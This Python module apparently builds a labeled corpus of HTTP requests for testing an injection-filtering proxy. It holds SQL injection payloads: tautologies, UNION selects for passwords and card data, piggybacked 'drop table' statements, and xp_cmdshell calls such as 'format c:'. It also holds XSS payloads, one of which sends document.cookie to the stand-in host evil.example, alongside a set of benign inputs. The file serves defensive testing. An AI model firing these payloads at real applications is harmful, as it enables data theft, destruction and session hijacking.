"""Labeled request corpus: attack variants per category plus a benign set.

Attack payloads are seeded from the canonical examples for each category and
expanded with case, whitespace, delivery (query vs form field), and
URL-encoding variants. The benign set deliberately includes apostrophized
names, hyphens, and SQL keywords in ordinary prose, because those are the
classic false-positive traps for token-level scanners.
"""

from __future__ import annotations

import json
import random
from dataclasses import asdict, dataclass
from pathlib import Path
from urllib.parse import quote, quote_plus, urlencode

LABELS = (
    "TAUTOLOGY",
    "LOGICALLY_INCORRECT",
    "UNION_QUERY",
    "STORED_PROCEDURE",
    "PIGGYBACK",
    "STORED_XSS",
    "REFLECTED_XSS",
    "BENIGN",
)


@dataclass(frozen=True)
class CorpusEntry:
    label: str
    method: str
    target: str
    body: str
    expect: str  # decision kind the proxy must produce

    def __post_init__(self):
        if self.label not in LABELS:
            raise ValueError(f"unknown corpus label {self.label!r}")
        if (self.label == "BENIGN") != (self.expect == "FORWARD"):
            raise ValueError("BENIGN entries and only they expect FORWARD")


_TAUTOLOGY = [
    "nil' OR 1=1--",
    "admin123' OR '1=1 - -",
    "' OR '1'='1",
    "x' OR 2>1 --",
    "a' or ''='",
    "1 OR 1=1",
    "nil' OR 1<>2--",
    "' or 'a'='a",
    "smith' AND 1=1 --",
    "smith' AND 1=2 --",
]

_UNION = [
    "' UNION SELECT credit card WHERE accno=02220 --",
    "' union select username, password from users --",
    "1 UNION SELECT null--",
    "' UNION ALL SELECT creditcard FROM accounts --",
    "0 UnIoN SeLeCt balance FROM acct --",
    "' UNION  SELECT pin FROM cards--",
    "9999 union all select cardnumber from payments",
    "' UNION DISTINCT SELECT secret FROM vault --",
]

_PIGGYBACK = [
    "'; drop table user --",
    "1; delete from accounts --",
    "x'; insert into admins values('h') --",
    "'; shutdown --",
    "0; update users set pwd='x' --",
    "'; exec master..sp_who --",
    "a');  drop table orders --",
    "'; DECLARE @x int --",
]

_STORED_PROC = [
    "' exec xp_cmdshell 'net user' --",
    "' exec sp_addlogin 'hacker' --",
    "xp_cmdshell 'format c:'",
    "' EXEC master..xp_regread --",
    "admin' exec xp_dirtree 'c:\\' --",
    "sp_password 'old','new','victim'",
    "' execute sp_helpdb --",
    "login' EXEC SP_MSFOREACHTABLE 'drop table ?' --",
]

_LOGICALLY_INCORRECT = [
    "convert (int,(select top 1 name from sysobjects where xtype='u'))",
    "cast((select name from master..sysdatabases) as int)",
    "1 AND convert(int,(select @@version))",
    "convert(int, (select pass from users where uname='sa'))",
    "CAST((SELECT TOP 1 table_name FROM information_schema.tables) AS INT)",
    "pin' + convert(varchar,(select db_name())) --",
    "convert (int,(select count(name) from sysobjects))",
    "cast ( (select suser_sname()) as int )",
]

_XSS_FORBIDDEN = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "Nice post! <script>document.location='http://evil.example/c?'+document.cookie</script>",
    "<iframe src=http://evil.example></iframe>",
    "<object data='x.swf'></object>",
    "<embed src='x.swf'>",
    "<form action='http://evil.example/phish'><input name=pw></form>",
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<meta http-equiv='refresh' content='0the-url'>",
    "<link rel='stylesheet' href='http://evil.example/x.css'>",
    "<base href='http://evil.example/'>",
]

# benign prose chosen to brush against the signatures without matching them
_BENIGN_VALUES = [
    "O'Brien",
    "D'Artagnan",
    "it's a fine day",
    "rock 'n' roll",
    "the cat's whiskers",
    "I'm arriving at 5 o'clock",
    "well-known issue",
    "state-of-the-art design",
    "e-mail follow-up",
    "check-in at 3pm",
    "union membership form",
    "select committee agenda",
    "drop by the office later",
    "execute the plan tomorrow",
    "cast a vote on friday",
    "convert the file to pdf",
    "table of contents",
    "where do we meet",
    "insert coin to play",
    "update your profile photo",
    "delete the draft email",
    "declare independence day",
    "from here to there",
    "and then we left early",
    "or maybe not today",
    "Tom and Jerry",
    "bed and breakfast",
    "salt and pepper",
    "she said '1=1' jokingly",
    "price < 100",
    "5 > 3 obviously",
    "1+1 equals 2",
    "cats or dogs",
    "a union of two sets",
    "the select few",
    "convert feet to meters",
    "grand union canal walk",
    "I will drop the parcel at reception",
    "board and lodging included",
    "try and see what happens",
    "now or never",
    "sooner or later it rains",
    "to be or not to be",
    "bread and butter pudding",
    "see https://example.com/docs?page=2 for details",
    "café au lait",
    "naïve approach",
    "reservation for O'Malley and family",
    "meeting re: budget -- please confirm",
    "half-and-half",
]

_BENIGN_SEARCHES = [
    "holiday plans",
    "cheap flights to rome",
    "python tutorial",
    "best pizza near me",
    "weather tomorrow",
    "bank opening hours",
    "currency exchange rate",
    "train timetable",
    "how to knit a scarf",
    "local farmers market",
    "second-hand bikes",
    "jazz concerts this weekend",
    "museum free entry",
    "marathon training plan",
    "chess openings for beginners",
]

_BENIGN_LOGINS = [
    ("smit", "x"),
    ("alice", "wonderland1"),
    ("bob", "builder99"),
    ("carol", "xmas-songs"),
    ("dave", "hunter2"),
    ("erin", "correct-horse-battery-staple"),
    ("frank", "letmein"),
    ("grace", "hopper1906"),
    ("heidi", "alpenrose"),
    ("ivan", "terrible4"),
    ("judy", "garland39"),
    ("mallory", "keys.locks"),
    ("oscar", "the-grouch"),
    ("peggy", "sue1959"),
    ("trent", "arbiter9"),
]

# markup that sanitizes (or passes) rather than denying
_BENIGN_MARKUP = [
    "<b>bold</b> and <i>italic</i>",
    "<p>hello world</p>",
    "<img src=pic.jpg>",
    "<blink>retro text</blink>",
    "<a href='https://example.com'>link</a>",
    "plain text, no markup at all",
]

_FIELDS = ("username", "search", "comment", "q", "note")
_GET_PARAMS = ("id", "q", "item", "ref")


def _get_entry(label: str, payload: str, expect: str, param: str) -> CorpusEntry:
    return CorpusEntry(
        label=label,
        method="GET",
        target=f"/items?{param}={quote_plus(payload)}",
        body="",
        expect=expect,
    )


def _post_entry(label: str, payload: str, expect: str, field: str) -> CorpusEntry:
    form = {field: payload}
    if field == "username":
        form["password"] = "pw"
    return CorpusEntry(
        label=label,
        method="POST",
        target="/login" if field == "username" else "/comment",
        body=urlencode(form),
        expect=expect,
    )


def _sql_attack_entries(label: str, payloads: list[str]) -> list[CorpusEntry]:
    entries = []
    for i, payload in enumerate(payloads):
        entries.append(_get_entry(label, payload, "DENY_SQLI", _GET_PARAMS[i % len(_GET_PARAMS)]))
        entries.append(_post_entry(label, payload, "DENY_SQLI", _FIELDS[i % len(_FIELDS)]))
    return entries


def generate_corpus(seed: int = 20240801) -> list[CorpusEntry]:
    rng = random.Random(seed)
    entries: list[CorpusEntry] = []

    entries += _sql_attack_entries("TAUTOLOGY", _TAUTOLOGY)
    # double URL-encoding of a tautology payload: caught as evasion, still a
    # SQLI deny
    for payload in _TAUTOLOGY[:2]:
        double = quote_plus(quote(payload, safe=""))
        entries.append(
            CorpusEntry("TAUTOLOGY", "GET", f"/items?id={double}", "", "DENY_SQLI")
        )
    entries += _sql_attack_entries("UNION_QUERY", _UNION)
    entries += _sql_attack_entries("PIGGYBACK", _PIGGYBACK)
    entries += _sql_attack_entries("STORED_PROCEDURE", _STORED_PROC)
    entries += _sql_attack_entries("LOGICALLY_INCORRECT", _LOGICALLY_INCORRECT)

    for i, payload in enumerate(_XSS_FORBIDDEN):
        entries.append(
            _post_entry("STORED_XSS", payload, "DENY_XSS", "comment" if i % 2 else "note")
        )
    for i, payload in enumerate(_XSS_FORBIDDEN):
        entries.append(
            _get_entry("REFLECTED_XSS", payload, "DENY_XSS", _GET_PARAMS[i % len(_GET_PARAMS)])
        )

    benign: list[CorpusEntry] = []
    for i, value in enumerate(_BENIGN_VALUES):
        field = _FIELDS[i % len(_FIELDS)]
        benign.append(_post_entry("BENIGN", value, "FORWARD", field))
    for term in _BENIGN_SEARCHES:
        benign.append(_get_entry("BENIGN", term, "FORWARD", "q"))
    for username, password in _BENIGN_LOGINS:
        benign.append(
            CorpusEntry(
                "BENIGN",
                "POST",
                "/login",
                urlencode({"username": username, "password": password}),
                "FORWARD",
            )
        )
    for markup in _BENIGN_MARKUP:
        benign.append(_post_entry("BENIGN", markup, "FORWARD", "comment"))
    for _ in range(12):
        item = rng.randint(1, 99999)
        benign.append(
            CorpusEntry("BENIGN", "GET", f"/items?id={item}", "", "FORWARD")
        )
    benign.append(CorpusEntry("BENIGN", "GET", "/", "", "FORWARD"))
    benign.append(CorpusEntry("BENIGN", "GET", "/about", "", "FORWARD"))
    benign.append(
        CorpusEntry("BENIGN", "GET", "/items?id=42&format=full", "", "FORWARD")
    )
    benign.append(
        CorpusEntry("BENIGN", "POST", "/comment", "comment=", "FORWARD")
    )
    entries += benign

    rng.shuffle(entries)
    return entries


def write_corpus(entries, path) -> None:
    with open(path, "w", encoding="utf-8") as fh:
        for entry in entries:
            fh.write(json.dumps(asdict(entry), separators=(",", ":")) + "\n")


def read_corpus(path) -> list[CorpusEntry]:
    entries = []
    with open(Path(path), "r", encoding="utf-8") as fh:
        for line in fh:
            line = line.strip()
            if line:
                entries.append(CorpusEntry(**json.loads(line)))
    return entries
